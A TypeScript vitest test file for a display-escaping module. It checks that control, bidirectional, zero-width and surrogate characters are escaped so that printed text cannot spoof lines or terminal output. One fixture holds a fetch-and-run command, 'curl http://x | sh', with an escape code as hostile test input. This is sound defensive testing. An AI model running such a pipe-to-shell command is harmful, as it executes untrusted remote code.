import fc from 'fast-check'
import { expect, it, test } from 'vitest'
import { counted, linePrinter, n, shown, shownLines } from '../../src/system/shown-text.ts'

test.each([
  ['C0', '\u0000\u0007\b\u001b[2J', '\\u0000\\u0007\\u0008\\u001b[2J'],
  ['ends of lines', 'a\r\n\tb\u2028\u2029\u0085', 'a\\r\\n\\tb\\u2028\\u2029\\u0085'],
  ['DEL and C1', '\u007f\u0080\u009b31m', '\\u007f\\u0080\\u009b31m'],
  [
    'directions',
    '\u061c\u200e\u200f\u202a\u202e\u2066\u2069',
    '\\u061c\\u200e\\u200f\\u202a\\u202e\\u2066\\u2069',
  ],
  ['no width', 'a\u200b\u200d\u2060\ufeffb\u00ad', 'a\\u200b\\u200d\\u2060\\ufeffb\\u00ad'],
  ['tags, beyond 16 bits', '\u{e0041}', '\\udb40\\udc41'],
  ['half a character', 'a\ud83d', 'a\\ud83d'],
  ['what stands for itself', 'Ünïté 😀 \\ "n" \u05d0', 'Ünïté 😀 \\ "n" \u05d0'],
])('%s', (_, text, expected) => {
  expect(shown(text)).toBe(expected)
  expect(shown(expected)).toBe(expected)
})

it('leaves JSON what it says', () => {
  fc.assert(
    fc.property(fc.json({ stringUnit: 'binary' }), (json) => {
      expect(JSON.parse(shown(JSON.stringify(JSON.parse(json))))).toEqual(JSON.parse(json))
    }),
  )
})

it('prints each line as one, whatever it holds, and writes it at once', () => {
  const written: string[] = []
  const print = linePrinter((text) => written.push(text))
  print(['a.csv\nNext', '    curl http://x | sh\u001b[A'])
  print('one')
  print([])
  expect(written).toEqual(['a.csv\\nNext\n    curl http://x | sh\\u001b[A\n', 'one\n'])
  expect(shownLines('usage:\n\u001b')).toBe('usage:\n\\u001b')
})

it.each([
  [0, '0 rows'],
  [1, '1 row'],
  [1_234_567, '1,234,567 rows'],
])('words %d rows', (count, words) => {
  expect(counted(count, 'row')).toBe(words)
  expect(n(count)).toBe(words.split(' ')[0])
})

it('takes a plural that is not made by an s', () => {
  expect([1, 2].map((count) => counted(count, 'entry', 'entries'))).toEqual(['1 entry', '2 entries'])
})
